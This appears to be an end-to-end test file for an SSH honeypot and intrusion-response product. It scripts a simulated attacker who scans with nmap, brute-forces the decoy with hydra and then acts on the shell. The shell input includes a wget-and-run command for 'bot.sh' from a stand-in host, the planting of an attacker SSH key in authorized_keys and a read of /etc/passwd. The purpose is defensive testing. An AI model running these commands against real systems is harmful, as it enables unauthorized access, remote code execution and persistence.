/**
 * The main story on the whole product, with the clients that attackers use, all from Debian: hydra finds the decoy's password, ssh and sftp
 * use it, the attacker becomes one incident, is cut off by the kernel, and is let back in. Each step goes on from the one before.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Incident } from '@netsentinel/contracts/incident';
import { namespacesUnavailable } from '@netsentinel/testkit/netns';
import { PacketProbe } from '@netsentinel/testkit/packet-probe';
import { openStage, openTerminal, PORT, ssh, upload, type AttackOptions, type Login, type Stage } from './stage.ts';

const TTL_MS = 12_000;
const POLL = { timeout: 60_000, interval: 100 };
const PASSWORDS = ['sunshine', 'dragon', 'letmein', 'monkey', 'iloveyou', 'master', 'shadow', 'football'];
const SECOND = '198.18.0.12';
const THIRD = '198.18.0.13';
const GATEWAY = '198.18.0.14';
const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGfY2lvHAvMZs5cU1mF1rCr6h0rJmCw6qVgq0jv9kX1p them';

/** Blocks at an upload only, so that an attacker has time to show what they do; and for seconds, so that the end can be waited for. */
const WATCHFUL = {
  decoys: [{ id: 'ssh-1', type: 'ssh', port: PORT }],
  enforcer: { mode: 'enforce', nftables: {} },
  response: { ttlMs: TTL_MS, blockOn: ['file-upload'], blockFrom: 101 },
};

describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end', () => {
  let stage: Stage;
  let probe: PacketProbe;
  let login: Login;
  let tool: string;
  let story: Incident;

  beforeAll(async () => {
    stage = openStage();
    const { network } = stage;
    network.addAttackers([`${SECOND}/15`, `${THIRD}/15`, `${GATEWAY}/15`]);
    network.run('defender', ['ip', 'route', 'add', 'default', 'via', GATEWAY]);
    tool = join(stage.attackerFolder, 'tool.bin');
    writeFileSync(tool, Buffer.from('7f454c4602010100 not a program, and never run'));
    probe = await PacketProbe.start(network);
    await stage.start(WATCHFUL);
  });
  afterAll(() => stage.close());

  const bringIn = (as: Login, options?: AttackOptions) => upload(stage, as, tool, '/root/tool.bin', options);
  /** Guesses from another address until the decoy takes the password, as a bot would, and puts a file onto the machine. */
  const breakIn = async (source: string, options: AttackOptions = {}): Promise<void> => {
    const guess: Login = { host: stage.network.defender4, password: 'letmein', source };
    for (let tries = 0; tries < 6; tries++) {
      if (!(await stage.attack(ssh(guess, 'id'), options)).stdout.includes('uid=0(root)')) continue;
      await bringIn(guess, options);
      return;
    }
    throw new Error(`the decoy never let ${source} in`);
  };

  it('looks like OpenSSH on Debian to nmap', async () => {
    const seen = await stage.attack(['nmap', '-n', '-Pn', '-sV', '-p', String(PORT), stage.network.defender4], {
      timeoutMs: 60_000,
    });
    expect(seen.stdout).toMatch(/2222\/tcp open\s+ssh\s+OpenSSH 9\.2p1 Debian/);
  });

  it('lets hydra find the password', async () => {
    const list = join(stage.attackerFolder, 'passwords');
    writeFileSync(list, `${PASSWORDS.join('\n')}\n`);
    const found = await stage.attack(
      [
        'hydra',
        '-I',
        '-t',
        '4',
        '-f',
        '-l',
        'root',
        '-P',
        list,
        '-s',
        String(PORT),
        `ssh://${stage.network.defender4}`,
      ],
      { timeoutMs: 90_000 },
    );
    const password = /login: root\s+password: (\S+)/.exec(found.stdout)?.[1];
    expect(PASSWORDS).toContain(password);
    login = { host: stage.network.defender4, password: password! };
  });

  it('plays a machine to whoever comes in with it', async () => {
    const shell = await stage.attack(ssh(login), {
      input: [
        'uname -a',
        'id',
        'cat /etc/passwd',
        'ps aux',
        'wget http://203.0.113.9/bot.sh -O /tmp/bot.sh; chmod +x /tmp/bot.sh; /tmp/bot.sh',
        `mkdir -p ~/.ssh && echo "${KEY}" >> ~/.ssh/authorized_keys`,
        'echo mine > /root/note',
        'exit',
        '',
      ].join('\n'),
    });
    expect(shell.code).toBe(0);
    expect(shell.stdout).toContain('6.1.0');
    expect(shell.stdout).toContain('uid=0(root) gid=0(root) groups=0(root)');
    expect(shell.stdout).toContain('root:x:0:0:root:/root:/bin/bash');
    expect((await stage.attack(ssh(login, 'cat /root/note'))).stdout).toBe('mine\n');
    expect((await stage.attack(ssh({ ...login, password: 'wrong' }, 'id'))).code).not.toBe(0);
  });

  it('cuts them off when they bring in a file: new and established connections get nothing', async () => {
    const source = stage.network.attacker4;
    expect(await probe.exchange(source, 10_000)).toBe(true);
    const open = openTerminal([...stage.network.inAttacker, ...ssh(login)]);
    await expect.poll(() => open.shown, { timeout: 60_000 }).toContain('# ');
    await bringIn(login);
    expect(await probe.dropped(source)).toBe(true);
    expect(await probe.exchange(source)).toBe(false);
    const before = open.shown;
    open.type('echo still here\n');
    expect((await stage.attack(ssh(login, 'id'), { timeoutMs: 2000 })).code).not.toBe(0);
    expect(open.shown).toBe(before);
    expect(await stage.blocks()).toMatchObject([
      { target: source, status: 'verified', mode: 'enforce', responder: 'nftables' },
    ]);
    open.end();
  });

  it('tells it as one incident', async () => {
    story = await stage.incidentOf(stage.network.attacker4);
    expect(story).toMatchObject({ status: 'contained', sourceVerified: true });
    expect(story.title).toMatch(
      /^SSH break-in(?: by brute force)? from 198\.18\.0\.2, logged in as root, brought in and ran a file, planted an SSH key/,
    );
    expect(['high', 'critical']).toContain(story.severity);
    expect(story.score).toBeGreaterThanOrEqual(80);
    // Reconnaissance, credential access, initial access come in this order, and all the rest after them.
    expect(story.tactics.slice(0, 3)).toEqual(['TA0043', 'TA0006', 'TA0001']);
    expect(story.tactics).toEqual(expect.arrayContaining(['TA0007', 'TA0011', 'TA0003']));
    expect(story.techniques).toEqual(expect.arrayContaining(['T1110', 'T1078', 'T1105', 'T1098.004', 'T1082']));
    expect(story.credentials).toContainEqual(
      expect.objectContaining({ user: 'root', password: login.password, accepted: true }),
    );
    expect(story.credentials.filter((one) => one.accepted)).toHaveLength(1);
    expect(story.credentials.length).toBeGreaterThan(1);
    expect(story.commands.map((one) => one.input)).toEqual(
      expect.arrayContaining(['uname -a', 'cat /etc/passwd', 'cat /root/note']),
    );
    expect(story.files).toContainEqual(
      expect.objectContaining({ direction: 'download', url: 'http://203.0.113.9/bot.sh' }),
    );
    expect(story.files).toContainEqual(
      expect.objectContaining({
        direction: 'upload',
        path: '/root/tool.bin',
        sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      }),
    );
    expect(story.fingerprints).toContainEqual({ kind: 'hassh', value: expect.stringMatching(/^[0-9a-f]{32}$/) });
    expect(story.sessions.some((one) => one.recording !== undefined)).toBe(true);
  });

  it('plays the session back, and proves its audit whole', async () => {
    const replayed = await stage.cli('replay', story.sessions.find((one) => one.recording !== undefined)!.id);
    expect(replayed.code).toBe(0);
    expect(replayed.stdout).toContain('uname -a');
    expect(replayed.stdout).toContain('wget http://203.0.113.9/bot.sh');
    const audit = await stage.cli('audit', 'verify');
    expect(audit.code).toBe(0);
  });

  it('lets them back in when the time is up, onto the machine as they left it', async () => {
    expect(await probe.passes(stage.network.attacker4, TTL_MS + 10_000)).toBe(true);
    await expect.poll(() => stage.blocks(), POLL).toEqual([]);
    const visit = await stage.attack(ssh(login, 'cat /root/note; cat /root/tool.bin; tail -1 .ssh/authorized_keys'));
    expect(visit.stdout).toBe(`mine\n7f454c4602010100 not a program, and never run${KEY}\n`);
    const { status, sessions } = await stage.incidentOf(stage.network.attacker4);
    expect(status).toBe('open');
    expect(sessions.length).toBeGreaterThan(story.sessions.length);
  });

  it('lets everybody in at once with response revert --all', async () => {
    await breakIn(SECOND);
    expect(await probe.dropped(SECOND)).toBe(true);
    const reverted = await stage.cli('response', 'revert', '--all', '--json');
    expect(JSON.parse(reverted.stdout)).toEqual({ reverted: 1 });
    expect(await probe.passes(SECOND)).toBe(true);
  });

  it('mends a firewall that somebody flushed', async () => {
    await breakIn(THIRD);
    expect(await probe.dropped(THIRD)).toBe(true);
    stage.network.run('defender', ['nft', 'flush', 'ruleset']);
    expect(await probe.dropped(THIRD)).toBe(true);
    expect(stage.network.run('defender', ['nft', 'list', 'ruleset'])).toContain(THIRD);
  });

  it('refuses to block the gateway and the machine itself, and says so', async () => {
    const refused = async (address: string): Promise<string | undefined> =>
      (await stage.incidentOf(address)).timeline.find((entry) => entry.title === `Block of ${address} refused`)?.detail;
    await breakIn(GATEWAY);
    await expect.poll(() => refused(GATEWAY), POLL).toContain('the default gateway');
    expect(await probe.passes(GATEWAY)).toBe(true);
    expect(stage.lines).toContainEqual(expect.objectContaining({ t: 'action', target: GATEWAY, status: 'refused' }));

    const { defender4 } = stage.network;
    await breakIn(defender4, { from: 'defender' });
    await expect.poll(() => refused(defender4), POLL).toContain('an address of this machine');
    expect((await stage.incidentOf(defender4)).status).toBe('open');
    expect(await stage.blocks()).toEqual([]);
  });

  it('is the same machine after a restart, with the same keys and the attacker’s files', async () => {
    const keys = async (): Promise<string[]> =>
      (await stage.attack(['ssh-keyscan', '-p', String(PORT), stage.network.defender4])).stdout
        .split('\n')
        .filter((line) => line !== '' && !line.startsWith('#'))
        .toSorted();
    const before = await keys();
    expect(before).toHaveLength(3);
    await stage.start(WATCHFUL);
    expect(await keys()).toEqual(before);
    const visit = await stage.attack(ssh(login, 'cat /root/note; ls /root/tool.bin'));
    expect(visit.stdout).toBe('mine\n/root/tool.bin\n');
    expect(await stage.incidentsOf(stage.network.attacker4)).toHaveLength(1);
  });
});
